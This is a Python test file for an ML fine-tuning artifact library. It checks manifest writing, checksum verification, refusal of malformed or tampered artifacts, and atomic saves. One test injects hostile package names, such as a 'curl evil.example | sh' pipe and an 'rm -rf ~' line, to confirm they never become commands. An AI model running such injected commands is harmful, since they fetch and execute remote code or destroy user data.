"""Artifacts: complete or not at all, verified before use, and readable without ftplug."""

import copy
import json
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import pytest
import tiny
import torch
from runs import logits, same, shake, weights
from safetensors.torch import load_file, save_file

import ftplug
from ftplug import ArtifactError
from ftplug.artifacts import migrations
from ftplug.artifacts.digests import file_entry
from ftplug.base.inspecting import inspect_base


@pytest.fixture
def base():
    return tiny.bert()


def artifact(base, folder, method="lora", **settings):
    model = shake(ftplug.apply(copy.deepcopy(base), method, **settings))
    return model, ftplug.save(model, folder)


def edit(folder, change, name="ftplug.json"):
    content = json.loads((folder / name).read_text())
    change(content)
    (folder / name).write_text(json.dumps(content))


def rewrite_weights(folder, change, name="adapter_model.safetensors"):
    """Change tensors and keep the manifest honest about the file."""
    tensors = load_file(folder / name)
    change(tensors)
    save_file(tensors, folder / name)
    edit(folder, lambda m: m["files"].update({name: file_entry(folder / name)}))


def refuse(base, folder, message):
    """Loading raises one ArtifactError line and leaves the caller's model untouched."""
    model = copy.deepcopy(base)
    before, structure = weights(model), str(model)
    with pytest.raises(ArtifactError, match=message) as caught:
        ftplug.load(model, folder)
    assert "\n" not in str(caught.value)
    assert same(weights(model), before)
    assert str(model) == structure
    assert not hasattr(model, "_ftplug")


# The manifest


def test_the_manifest_says_what_it_is(base, tmp_path):
    _, folder = artifact(base, tmp_path / "a", r=4)
    found = json.loads((folder / "ftplug.json").read_text())
    assert found["schema"] == 2
    assert found["methods"][0]["name"] == "lora"
    assert found["methods"][0]["settings"]["r"] == 4
    assert found["methods"][0]["distribution"] == "ftplug"
    assert set(found["base"]["fingerprint"]) == {"bf16", "fp16"}
    assert found["model"]["class"] == "BertForSequenceClassification"
    assert found["model"]["task"] == "text-classification"
    assert found["model"]["labels"] == {"0": "LABEL_0", "1": "LABEL_1"}
    # 2 layers x (query, value) x r x (in + out) and the head's 2 x 32 + 2
    assert found["parameters"]["trained"] == 2 * 2 * 4 * (32 + 32) + 2 * 32 + 2
    assert found["parameters"]["total"] == sum(p.numel() for p in base.parameters())
    assert set(found["files"]) == {
        "adapter_config.json", "adapter_model.safetensors", "ftplug_probe.safetensors",
    }  # fmt: skip
    assert found["effect"]["probe"] == "ftplug_probe.safetensors"


@pytest.mark.parametrize("method", ["lora", "full", "freeze"])
def test_no_local_path_and_no_pickle(method, tmp_path):
    from transformers import BertForSequenceClassification

    tiny.bert("Model").save_pretrained(tmp_path / "secret-place")
    model = BertForSequenceClassification.from_pretrained(tmp_path / "secret-place")
    folder = ftplug.save(ftplug.apply(model, method), tmp_path / "a")
    for path in folder.iterdir():
        assert path.suffix in {".json", ".safetensors", ".md"}
        assert b"secret-place" not in path.read_bytes()


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("org/name", ("org/name", None)),
        ("bert-base-uncased", ("bert-base-uncased", None)),
        ("/home/me/model", (None, None)),
        ("./model", (None, None)),
        (f"/x/models--org--name/snapshots/{'a' * 40}", ("org/name", "a" * 40)),
    ],
)
def test_identity_of_the_base(base, path, expected):
    base.config._name_or_path = path
    found = inspect_base(base)
    assert (found.id, found.revision) == expected


def test_a_wrapper_that_reads_its_own_weights_is_not_what_its_config_is_from(base, tmp_path):
    """gliner builds its encoder from a config, and then reads a checkpoint of its own."""
    base.config._name_or_path = "org/encoder"
    assert inspect_base(torch.nn.Sequential(base)).id is None
    base.save_pretrained(tmp_path)
    loaded = type(base).from_pretrained(tmp_path)
    loaded.config._name_or_path = "org/encoder"
    assert inspect_base(torch.nn.Sequential(loaded)).id == "org/encoder"


def test_all_files_have_the_permissions_that_the_umask_allows(base, tmp_path):
    _, folder = artifact(base, tmp_path / "a")
    (tmp_path / "plain").write_text("")
    usual = (tmp_path / "plain").stat().st_mode
    assert {path.stat().st_mode for path in folder.iterdir()} == {usual}


# Refusals


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda m: m.update(schema=99), "schema 99 is unknown"),
        (lambda m: m.update(schema="1"), "schema '1' is unknown"),
        (lambda m: m.pop("schema"), "schema None is unknown"),
        (lambda m: m.pop("methods"), "malformed manifest"),
        (lambda m: m.update(schema=1, methods="lora"), "malformed manifest: methods"),
        (lambda m: m.update(schema=1, methods=[3]), "malformed manifest: methods"),
        (lambda m: m.update(schema=1, files=[]), "malformed manifest: files"),
        (lambda m: m.update(methods=[]), "methods: List should have at least 1 item"),
        (lambda m: m.update(methods=[{"name": 1, "settings": {}}]), "malformed manifest"),
        (lambda m: m.update(files={"../x": {"size": 1, "sha256": "0" * 64}}), "leaves the"),
        (lambda m: m.update(files={"/etc/x": {"size": 1, "sha256": "0" * 64}}), "leaves the"),
        (lambda m: m.update(files={"x.pkl": {"size": 1, "sha256": "0" * 64}}), "is a pickle"),
        (lambda m: m["base"].update(fingerprint={"md5": "x"}), "malformed manifest"),
        (lambda m: m["methods"][0]["settings"].update(r=0), "setting 'r'"),
        (lambda m: m["methods"][0]["settings"].update(zz=0), "no setting named 'zz'"),
        (lambda m: m["methods"][0]["settings"].update(r=4), r"tensor .* is \(8, 32\)"),
        (lambda m: m["model"].update({"class": "ViTModel"}), "trained on a ViTModel"),
        (lambda m: m["base"].update(fresh=[[1]]), "malformed manifest: base.fresh"),
        (lambda m: m["base"].update(revision=5), "malformed manifest: base.revision"),
        (lambda m: m["methods"][0]["settings"].update(r=10**9), "two descriptions of one"),
        (lambda m: m.update(files={}), "is missing"),
    ],
)
def test_a_wrong_manifest_is_refused(base, tmp_path, change, message):
    _, folder = artifact(base, tmp_path / "a")
    edit(folder, change)
    refuse(base, folder, message)


@pytest.mark.parametrize("name", ["Trainer", "NoSuchModel", None])
def test_a_class_that_is_no_model_is_refused(base, tmp_path, name):
    _, folder = artifact(base, tmp_path / "a")
    edit(folder, lambda m: m["model"].update({"class": name}))
    with pytest.raises(ArtifactError, match="is no model class of transformers"):
        ftplug.load(tmp_path / "base", folder)


@pytest.mark.parametrize("config", [[1], {"id2label": {"a": 1}}, {"vocab_size": "x"}])
def test_a_malformed_config_is_refused(base, tmp_path, config):
    base.save_pretrained(tmp_path / "base")
    _, folder = artifact(base, tmp_path / "a")
    edit(folder, lambda m: m["model"].update(config=config))
    with pytest.raises(ArtifactError, match=r"cannot load the base|malformed manifest"):
        ftplug.load(tmp_path / "base", folder)


@pytest.mark.parametrize("text", ["", "{", "[]", "null", '{"schema": 1', "[" * 100_000])
def test_a_manifest_that_is_none_is_refused(base, tmp_path, text):
    _, folder = artifact(base, tmp_path / "a")
    (folder / "ftplug.json").write_text(text)
    refuse(base, folder, "not readable as JSON|not a manifest")


def test_missing_parts_are_named(base, tmp_path):
    refuse(base, tmp_path / "nowhere", "no such folder")
    (tmp_path / "empty").mkdir()
    refuse(base, tmp_path / "empty", r"no ftplug\.json")
    _, folder = artifact(base, tmp_path / "a")
    (folder / "adapter_model.safetensors").unlink()
    refuse(base, folder, "adapter_model.safetensors is missing")


def test_truncated_and_altered_files_are_refused(base, tmp_path):
    _, folder = artifact(base, tmp_path / "a")
    path = folder / "adapter_model.safetensors"
    whole = path.read_bytes()
    path.write_bytes(whole[:-7])
    refuse(base, folder, "truncated or altered")
    path.write_bytes(whole[:-1] + bytes([whole[-1] ^ 1]))
    refuse(base, folder, "sha256 differs")


def test_a_damaged_file_with_a_matching_manifest_is_refused(base, tmp_path):
    _, folder = artifact(base, tmp_path / "a", "freeze", layers=1)
    path = folder / "ftplug.safetensors"
    path.write_bytes(path.read_bytes()[:40])
    edit(folder, lambda m: m["files"].update({path.name: file_entry(path)}))
    refuse(base, folder, "not readable")


def test_missing_unexpected_and_misshapen_tensors_are_named(base, tmp_path):
    first = "base_model.model.bert.encoder.layer.0.attention.self.query.lora_A.weight"
    _, folder = artifact(base, tmp_path / "a")
    rewrite_weights(folder, lambda t: t.pop(first))
    refuse(base, folder, r"query\.lora_A\.default\.weight is missing \(1 in all\)")

    _, folder = artifact(base, tmp_path / "b")
    rewrite_weights(folder, lambda t: t.update(stray=torch.zeros(1)))
    refuse(base, folder, "tensor stray belongs to nothing")

    _, folder = artifact(base, tmp_path / "c")
    rewrite_weights(folder, lambda t: t.update({first: torch.zeros(3, 32)}))
    refuse(base, folder, r"is \(3, 32\), the model needs \(8, 32\)")


def test_another_base_is_refused_showing_both(base, tmp_path):
    _, folder = artifact(base, tmp_path / "a")
    other = shake(copy.deepcopy(base), 0.3)
    refuse(other, folder, r"trained on .*weights \w+/\w+.* this base is .*weights \w+/\w+")
    loaded = ftplug.load(other, folder, force=True)
    assert loaded is other


def test_another_architecture_is_refused(base, tmp_path):
    _, folder = artifact(base, tmp_path / "a")
    refuse(
        tiny.roberta(), folder, "trained on a BertForSequenceClassification, but the base is a R"
    )


@pytest.mark.parametrize("arguments", [(3, "folder"), (None, "folder"), (tiny.bert(), None)])
def test_arguments_of_another_kind_are_one_line(arguments):
    with pytest.raises(ArtifactError, match=r"load: the (base|artifact) is a"):
        ftplug.load(*arguments)


def test_a_model_that_carries_a_method_is_refused(base, tmp_path):
    model, folder = artifact(base, tmp_path / "a")
    with pytest.raises(ArtifactError, match="already carries lora"):
        ftplug.load(model, folder)


def test_a_missing_plugin_is_named_as_the_publishers_claim(base, tmp_path):
    _, folder = artifact(base, tmp_path / "a")
    edit(folder, lambda m: m["methods"][0].update(
        name="theirs", distribution="ftplug-theirs", version="1.2"))  # fmt: skip
    with pytest.raises(ftplug.PluginError, match=r"'theirs', which is not installed") as refused:
        ftplug.load(copy.deepcopy(base), folder)
    assert "names the package 'ftplug-theirs 1.2', which is its publisher's claim" in str(
        refused.value
    )
    assert "pip" not in str(refused.value)


@pytest.mark.parametrize(
    "hostile",
    ["x; curl evil.example | sh", "x\n$ rm -rf ~", "x\x1b[2J", "y" * 9000, "--index-url=http://e"],
)
def test_a_strangers_package_name_is_no_command(hostile, base, tmp_path):
    _, folder = artifact(base, tmp_path / "a")
    edit(folder, lambda m: m["methods"][0].update(
        name=hostile, distribution=hostile, version=hostile))  # fmt: skip
    with pytest.raises(ftplug.PluginError) as refused:
        ftplug.load(copy.deepcopy(base), folder)
    said = str(refused.value)
    assert len(said) < 600 + len(str(folder))
    assert said.isprintable()
    assert "install x" not in said


@pytest.mark.parametrize("named", [None, ""])
def test_a_manifest_that_names_no_package_says_so(named, base, tmp_path):
    _, folder = artifact(base, tmp_path / "a")
    edit(folder, lambda m: m["methods"][0].update(name="theirs", distribution=named, version=None))
    with pytest.raises(ftplug.PluginError, match="names no package for it"):
        ftplug.load(copy.deepcopy(base), folder)


@pytest.mark.parametrize("settings", [{"later": 1}, {"r": "eight"}])
def test_a_setting_that_the_installed_version_does_not_take_names_both_versions(
    settings, base, tmp_path
):
    _, folder = artifact(base, tmp_path / "a")
    edit(folder, lambda m: (
        m["methods"][0].update(distribution="ftplug", version="9.9"),
        m["methods"][0]["settings"].update(settings)))  # fmt: skip
    edit(folder, lambda config: config.update(settings), "adapter_config.json")  # both say it
    listed = {"adapter_config.json": file_entry(folder / "adapter_config.json")}
    edit(folder, lambda m: m["files"].update(listed))
    with pytest.raises(
        ArtifactError, match=f"{next(iter(settings))}.*written by 'ftplug 9.9'"
    ) as e:
        ftplug.load(copy.deepcopy(base), folder)
    assert f"installed is ftplug {ftplug.__version__})" in str(e.value)


# Loading from an id or folder, and without ftplug


def test_a_base_folder_is_loaded_with_class_and_labels(tmp_path):
    from transformers import BertForSequenceClassification

    tiny.bert("Model").save_pretrained(tmp_path / "base")
    labels = {0: "bad", 1: "so-so", 2: "good"}
    model = BertForSequenceClassification.from_pretrained(
        tmp_path / "base", id2label=labels, label2id={v: k for k, v in labels.items()}
    )
    shake(ftplug.apply(model, "lora"))
    folder = ftplug.save(model, tmp_path / "a")
    loaded = ftplug.load(tmp_path / "base", folder)
    assert torch.equal(logits(loaded), logits(model))
    assert loaded.config.id2label == labels
    with pytest.raises(ArtifactError, match="cannot load the base"):
        ftplug.load(tmp_path / "nowhere", folder)


def test_lora_loads_with_plain_peft(base, tmp_path):
    import peft

    for make, head in ((tiny.bert, "SequenceClassification"), (tiny.roberta, "TokenClassification"),
                       (tiny.llama, "CausalLM"), (tiny.t5, "ConditionalGeneration")):  # fmt: skip
        model, folder = artifact(make(head), tmp_path / make.__name__)
        again = peft.PeftModel.from_pretrained(make(head), folder).eval()
        assert torch.equal(logits(again, tiny.inputs(model)), logits(model))


def test_full_loads_with_plain_transformers(tmp_path):
    import transformers

    for make, head, auto in (
        (tiny.bert, "SequenceClassification", "AutoModelForSequenceClassification"),
        (tiny.vit, "ImageClassification", "AutoModelForImageClassification"),
        (tiny.gpt2, "LMHeadModel", "AutoModelForCausalLM"),
        (tiny.t5, "ConditionalGeneration", "AutoModelForSeq2SeqLM"),
    ):
        model, folder = artifact(make(head), tmp_path / make.__name__, "full")
        again = getattr(transformers, auto).from_pretrained(folder).eval()
        assert torch.equal(logits(again), logits(model))
        assert torch.equal(logits(ftplug.load(make(head), folder)), logits(model))


def test_save_pretrained_means_the_artifact(base, tmp_path):
    model, folder = artifact(base, tmp_path / "a")
    model.save_pretrained(tmp_path / "b")
    names = {path.name for path in folder.iterdir()}
    assert {path.name for path in (tmp_path / "b").iterdir()} == names
    plain = ftplug.merge(model)
    plain.save_pretrained(tmp_path / "c")
    assert (tmp_path / "c" / "model.safetensors").is_file()


def test_a_card_may_be_edited(base, tmp_path):
    model, folder = artifact(base, tmp_path / "a")
    (folder / "README.md").write_text("mine")
    assert torch.equal(logits(ftplug.load(copy.deepcopy(base), folder)), logits(model))


def test_a_later_save_replaces_an_earlier_one_and_leaves_other_files(base, tmp_path):
    artifact(base, tmp_path / "a", "lora")
    (tmp_path / "a" / "notes.txt").write_text("keep me")
    model, folder = artifact(base, tmp_path / "a", "freeze", layers=1)
    names = {path.name for path in folder.iterdir()}
    assert names == {
        "README.md", "ftplug.json", "ftplug.safetensors", "ftplug_probe.safetensors", "notes.txt",
    }  # fmt: skip
    assert torch.equal(logits(ftplug.load(copy.deepcopy(base), folder)), logits(model))


class WritesAFile(ftplug.Method):
    """Writes a config of its own beside the host's tensors."""

    name = "writes-a-file"
    kind = "regularizer"

    @ftplug.hookimpl
    def save_artifact(self, directory):
        (directory / "foo.json").write_text("{}")


def test_what_a_method_wrote_goes_with_it(base, tmp_path):
    folder = ftplug.save(ftplug.apply(copy.deepcopy(base), WritesAFile(), "lora"), tmp_path / "a")
    methods = json.loads((folder / "ftplug.json").read_text())["methods"]
    assert {method["name"]: method["files"] for method in methods} == {
        "writes-a-file": ["foo.json"],
        "lora": ["adapter_config.json", "adapter_model.safetensors"],
    }
    artifact(base, folder, "freeze", layers=1)
    assert {path.name for path in folder.iterdir()} == {
        "README.md", "ftplug.json", "ftplug.safetensors", "ftplug_probe.safetensors",
    }  # fmt: skip
    assert "foo.json" not in json.loads((folder / "ftplug.json").read_text())["files"]


def test_the_tokenizer_goes_along(base, tmp_path):
    from tokenizers import Tokenizer, models
    from transformers import PreTrainedTokenizerFast

    tokenizer = PreTrainedTokenizerFast(
        tokenizer_object=Tokenizer(models.WordLevel({"[UNK]": 0, "a": 1}, unk_token="[UNK]"))
    )
    model = ftplug.apply(copy.deepcopy(base), "lora")
    folder = ftplug.save(model, tmp_path / "a", processing_class=tokenizer)
    listed = json.loads((folder / "ftplug.json").read_text())["files"]
    assert "tokenizer.json" in listed
    assert PreTrainedTokenizerFast.from_pretrained(folder).vocab_size == 2


def test_the_config_comes_along(tmp_path):
    tiny.llama().save_pretrained(tmp_path / "base")
    from transformers import LlamaForSequenceClassification

    model = LlamaForSequenceClassification.from_pretrained(tmp_path / "base", num_labels=5)
    model.config.pad_token_id = 0
    model.config.problem_type = "single_label_classification"
    shake(ftplug.apply(model, "lora"))
    loaded = ftplug.load(tmp_path / "base", ftplug.save(model, tmp_path / "a"))
    assert torch.equal(logits(loaded), logits(model))
    assert loaded.config.pad_token_id == 0
    assert loaded.config.problem_type == "single_label_classification"


def test_a_base_with_another_head_is_loaded_by_folder(tmp_path):
    tiny.bert(num_labels=2).save_pretrained(tmp_path / "base")
    from transformers import BertForSequenceClassification

    model = BertForSequenceClassification.from_pretrained(
        tmp_path / "base", num_labels=5, ignore_mismatched_sizes=True
    )
    shake(ftplug.apply(model, "lora"))
    loaded = ftplug.load(tmp_path / "base", ftplug.save(model, tmp_path / "a"))
    assert torch.equal(logits(loaded), logits(model))


def test_resized_embeddings_are_loaded_by_folder(tmp_path):
    tiny.gpt2().save_pretrained(tmp_path / "base")
    from transformers import GPT2LMHeadModel

    model = GPT2LMHeadModel.from_pretrained(tmp_path / "base")
    model.resize_token_embeddings(tiny.VOCAB + 3, mean_resizing=False)
    shake(ftplug.apply(model, "lora"))
    folder = ftplug.save(model, tmp_path / "a")
    assert torch.equal(logits(ftplug.load(tmp_path / "base", folder)), logits(model))
    # peft would restore the embedding and leave the head that is tied to it: not written for it.
    assert not (folder / "adapter_config.json").exists()


def test_other_labels_on_a_given_model_are_warned_about(base, tmp_path, caplog):
    _, folder = artifact(base, tmp_path / "a")
    other = copy.deepcopy(base)
    other.config.id2label = {0: "yes", 1: "no"}
    ftplug.load(other, folder)
    assert "this model has others" in caplog.text


@pytest.mark.parametrize("cached", ["main", "v1"])
def test_the_revision_is_found_in_the_cache(tmp_path, monkeypatch, cached):
    """transformers keeps no commit: the snapshot that holds the same values tells."""
    from transformers import BertForSequenceClassification

    snapshots = tmp_path / "models--acme--two" / "snapshots"
    for number in (0, 1):
        shake(tiny.bert("Model"), 0.1 * number).save_pretrained(snapshots / (str(number) * 40))
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(tmp_path))
    sha = {"main": "0" * 40, "v1": "1" * 40}[cached]
    model = BertForSequenceClassification.from_pretrained(snapshots / sha)
    model.config._name_or_path = "acme/two"  # as loaded by id
    found = inspect_base(model)
    assert (found.id, found.revision) == ("acme/two", sha)


# What full fine-tuning can leave behind


def test_full_without_its_head_is_no_plain_checkpoint(tmp_path):
    tiny.bert().save_pretrained(tmp_path / "base")
    from transformers import BertForSequenceClassification

    model = BertForSequenceClassification.from_pretrained(tmp_path / "base")
    shake(ftplug.apply(model, "full", train_head=False))
    folder = ftplug.save(model, tmp_path / "a")
    assert not (folder / "model.safetensors").exists()  # from_pretrained would draw a head
    assert torch.equal(logits(ftplug.load(tmp_path / "base", folder)), logits(model))


@pytest.mark.parametrize("method", ["full", "lora"])
def test_a_class_of_the_users_own_is_saved_and_switched_off(method, tmp_path):
    from transformers import BertForSequenceClassification

    class Weighted(BertForSequenceClassification):
        def __init__(self, config, class_weights):
            super().__init__(config)
            self.class_weights = class_weights

    base = Weighted(tiny.bert().config, [1, 2]).eval()
    model = shake(ftplug.apply(copy.deepcopy(base), method))
    folder = ftplug.save(model, tmp_path / "a")
    assert torch.equal(logits(ftplug.load(copy.deepcopy(base), folder)), logits(model))
    with ftplug.disabled(model):
        assert torch.equal(logits(model), logits(base))


# Folders that hold more than one artifact


def test_unlisted_files_are_not_read(base, tmp_path):
    model, folder = artifact(base, tmp_path / "a")
    save_file({"classifier.weight": torch.full((2, 32), 9.0)}, folder / "ftplug.safetensors")
    assert torch.equal(logits(ftplug.load(copy.deepcopy(base), folder)), logits(model))


def test_an_artifact_beside_anothers_leftovers_loads(base, tmp_path, caplog):
    folder = tmp_path / "a"
    artifact(base, folder)
    (folder / "ftplug.json").unlink()
    model, _ = artifact(base, folder, "full")
    assert "adapter_model.safetensors of another run" in caplog.text
    assert torch.equal(logits(ftplug.load(copy.deepcopy(base), folder)), logits(model))


def test_a_readme_of_the_users_own_stays(base, tmp_path):
    (tmp_path / "README.md").write_text("# My project")
    artifact(base, tmp_path)
    artifact(base, tmp_path)
    assert (tmp_path / "README.md").read_text() == "# My project"


def test_a_tokenizer_saved_before_stays_listed(base, tmp_path):
    import folders
    from transformers import AutoTokenizer

    tokenizer = AutoTokenizer.from_pretrained(folders.encoder(tmp_path / "encoder"))
    model = ftplug.apply(copy.deepcopy(base), "lora")
    folder = ftplug.save(model, tmp_path / "a", processing_class=tokenizer)
    model.save_pretrained(folder)
    assert "tokenizer.json" in json.loads((folder / "ftplug.json").read_text())["files"]
    AutoTokenizer.from_pretrained(folder)


def test_a_folder_on_another_disk_is_written(base, tmp_path):
    """A mounted output folder cannot be renamed onto: the stage must lie inside it."""
    elsewhere = Path("/dev/shm") if Path("/dev/shm").is_dir() else tmp_path
    with tempfile.TemporaryDirectory(dir=elsewhere) as disk:
        (tmp_path / "out").symlink_to(disk)
        model, folder = artifact(base, tmp_path / "out")
        assert torch.equal(logits(ftplug.load(copy.deepcopy(base), folder)), logits(model))


# Complete or not at all


def test_a_full_disk_at_the_last_moment_keeps_the_old_artifact(base, tmp_path, monkeypatch):
    model, folder = artifact(base, tmp_path / "a")

    def fail(directory):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("ftplug.files.staged.flush", fail)
    with pytest.raises(ArtifactError, match="No space left"):
        artifact(base, folder, "freeze", layers=1)
    monkeypatch.undo()
    assert torch.equal(logits(ftplug.load(copy.deepcopy(base), folder)), logits(model))


def test_an_error_while_saving_leaves_the_old_artifact(base, tmp_path, monkeypatch):
    model, folder = artifact(base, tmp_path / "a")
    before = {path.name: path.read_bytes() for path in folder.iterdir()}
    monkeypatch.setattr("ftplug.artifacts.saving.card_files", lambda manifest: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        ftplug.save(shake(model), folder)
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
    assert [path.name for path in tmp_path.iterdir()] == ["a"]


def test_a_folder_that_cannot_be_written_is_one_line(base, tmp_path):
    (tmp_path / "file").write_text("")
    model = ftplug.apply(copy.deepcopy(base), "lora")
    with pytest.raises(ArtifactError, match="cannot write"):
        ftplug.save(model, tmp_path / "file" / "a")


@pytest.mark.slow
def test_a_full_disk_is_one_line_and_leaves_what_was_there(base, tmp_path):
    """A limit on the size of files stands in for a disk without space."""
    code = """
        import resource, sys
        sys.path.insert(0, sys.argv[2])
        import tiny, ftplug
        from runs import trainer
        base, folder = tiny.bert, sys.argv[1]
        ftplug.save(ftplug.apply(base(), "lora"), folder + "/artifact")
        bound = ftplug.attach(trainer(base(), folder + "/run", max_steps=1, save_steps=1), "lora")
        bound.train()
        resource.setrlimit(resource.RLIMIT_FSIZE, (5000, resource.RLIM_INFINITY))

        def refused(action):
            try:
                action()
            except ftplug.ArtifactError as error:
                assert "cannot write" in str(error), error
                assert "\\n" not in str(error), error
            else:
                raise AssertionError("nothing was refused")

        refused(lambda: ftplug.save(ftplug.apply(base(), "full"), folder + "/artifact"))
        refused(bound.train)
        resource.setrlimit(resource.RLIMIT_FSIZE, (14000, resource.RLIM_INFINITY))
        refused(bound.train)  # the weights fit now, the optimizer's file does not
        resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        ftplug.load(base(), folder + "/artifact")
        bound.train(resume_from_checkpoint=True)
    """
    command = [sys.executable, "-c", textwrap.dedent(code), tmp_path, Path(tiny.__file__).parent]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert all(path.name.startswith("checkpoint-") for path in (tmp_path / "run").iterdir())


def test_older_schemas_migrate(base, tmp_path, monkeypatch):
    model, folder = artifact(base, tmp_path / "a")

    def from_zero(content, plugins):
        content["methods"] = content.pop("recipes")
        return content | {"schema": 1}

    monkeypatch.setitem(migrations.MIGRATIONS, 0, from_zero)
    edit(folder, lambda m: m.update(schema=0, recipes=m.pop("methods")))
    assert torch.equal(logits(ftplug.load(copy.deepcopy(base), folder)), logits(model))
